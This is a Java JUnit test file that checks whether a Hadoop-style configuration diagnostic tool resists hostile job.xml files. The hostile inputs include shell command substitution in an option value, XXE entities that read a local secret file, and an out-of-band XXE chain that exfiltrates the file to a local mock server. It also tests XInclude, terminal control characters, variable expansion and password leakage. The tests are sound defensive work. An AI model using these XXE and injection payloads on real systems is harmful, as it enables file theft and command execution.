package org.spillway.tools.doctor;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Tests the doctor with a job.xml that wants to harm the one who examines it. */
class ForeignJobTest {
    private static final String SECRET = "only-for-the-owner";

    @TempDir
    private Path temp;

    private final List<String> requests = Collections.synchronizedList(new ArrayList<>());
    private final ByteArrayOutputStream shown = new ByteArrayOutputStream();
    private final PrintStream realOut = System.out;
    private final PrintStream realErr = System.err;
    private HttpServer server;
    private Path secret;

    @BeforeEach
    void start() throws IOException {
        secret = Files.writeString(temp.resolve("secret"), SECRET);
        server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        server.createContext("/", exchange -> {
            requests.add(exchange.getRequestURI().toString());
            byte[] answer = ("<!ENTITY all \"<!ENTITY send SYSTEM '" + url("/sent?%file;") + "'>\">%all;")
                    .getBytes(StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(200, answer.length);
            exchange.getResponseBody().write(answer);
            exchange.close();
        });
        server.start();
        PrintStream print = new PrintStream(shown, true, StandardCharsets.UTF_8);
        System.setOut(print);
        System.setErr(print);
    }

    @AfterEach
    void stop() {
        System.setOut(realOut);
        System.setErr(realErr);
        server.stop(0);
    }

    private String url(String path) {
        return "http://localhost:" + server.getAddress().getPort() + path;
    }

    private void diagnose(String jobXml) throws IOException {
        Path file = Files.writeString(temp.resolve("job.xml"), jobXml);
        DoctorMain.run("-conf", file.toString());
    }

    private static String property(String name, String value) {
        return "<property><name>" + name + "</name><value>" + value + "</value></property>";
    }

    @Test
    void diagnose_scriptInFolderOfJob_notRun() throws IOException {
        Path folder = Files.createDirectory(temp.resolve("archive"));
        Path ran = temp.resolve("ran");
        Path script =
                Files.writeString(folder.resolve("check.sh"), "#!/bin/sh\ntouch " + ran + "\necho used: forged\n");
        Files.setPosixFilePermissions(script, PosixFilePermissions.fromString("rwxr-xr-x"));
        Files.createFile(folder.resolve("mapred-site-task-archive.xml"));

        diagnose("<configuration>"
                + property("mapreduce.admin.map.child.java.opts", "$(" + folder + "/options.sh)")
                + "</configuration>");

        assertThat(ran).doesNotExist();
        assertThat(shown.toString(StandardCharsets.UTF_8))
                .doesNotContain("forged")
                .contains(folder + ": an archive is on this machine");
    }

    @Test
    void diagnose_entityOfFile_fileNotShown() throws IOException {
        diagnose("<!DOCTYPE c [<!ENTITY x SYSTEM \"" + secret.toUri() + "\">]><configuration>"
                + property("mapreduce.map.output.key.class", "&x;") + "</configuration>");

        assertThat(shown.toString(StandardCharsets.UTF_8)).doesNotContain(SECRET);
    }

    @Test
    void diagnose_entityOfUrl_noRequest() throws IOException {
        diagnose("<!DOCTYPE c [<!ENTITY % file SYSTEM \"" + secret.toUri() + "\"><!ENTITY % dtd SYSTEM \"" + url("/dtd")
                + "\">%dtd;]><configuration>" + property("a", "&send;") + "</configuration>");

        assertThat(requests).isEmpty();
    }

    @Test
    void diagnose_include_fileNotShown() throws IOException {
        Path other = Files.writeString(
                temp.resolve("other.xml"),
                "<configuration>" + property("mapreduce.map.output.key.class", SECRET) + "</configuration>");
        diagnose("<configuration xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"" + other.toUri()
                + "\"/></configuration>");

        assertThat(shown.toString(StandardCharsets.UTF_8)).doesNotContain(SECRET);
    }

    @Test
    void diagnose_controlCharacters_escaped() throws IOException {
        diagnose("<configuration>" + property("spillway.spill.threads", "1")
                + property("mapreduce.map.output.key.class", "no.\u009b2J.\u202eKey") + "</configuration>");
        diagnose("<configuration>"
                + property("mapreduce.admin.map.child.java.opts", "$(/archive\u009b2J/options.sh)")
                + "</configuration>");

        assertThat(shown.toString(StandardCharsets.UTF_8))
                .doesNotContain("\u009b")
                .doesNotContain("\u202e")
                .contains("no.\\u009b2J.\\u202eKey", "/archive\\u009b2J: ");
    }

    @Test
    void diagnose_variables_notExpanded() throws IOException {
        System.setProperty("spillway.test.secret", SECRET);
        try {
            diagnose("<configuration>" + property("mapreduce.map.output.key.class", "no.${spillway.test.secret}")
                    + property("mapreduce.map.output.value.class", "no.${env.PATH}") + "</configuration>");
        } finally {
            System.clearProperty("spillway.test.secret");
        }

        assertThat(shown.toString(StandardCharsets.UTF_8))
                .doesNotContain(SECRET, System.getenv("PATH"))
                .contains("no.${spillway.test.secret}", "no.${env.PATH}");
    }

    @Test
    void diagnose_passwordInOptions_notShown() throws IOException {
        diagnose("<configuration>"
                + property("mapreduce.map.java.opts", "-Xmx-Dp.password=" + SECRET + " -Dp.password=" + SECRET)
                + property("mapreduce.map.output.key.class", "org.apache.hadoop.io.Text") + "</configuration>");

        assertThat(shown.toString(StandardCharsets.UTF_8)).contains("verdict").doesNotContain(SECRET);
    }
}
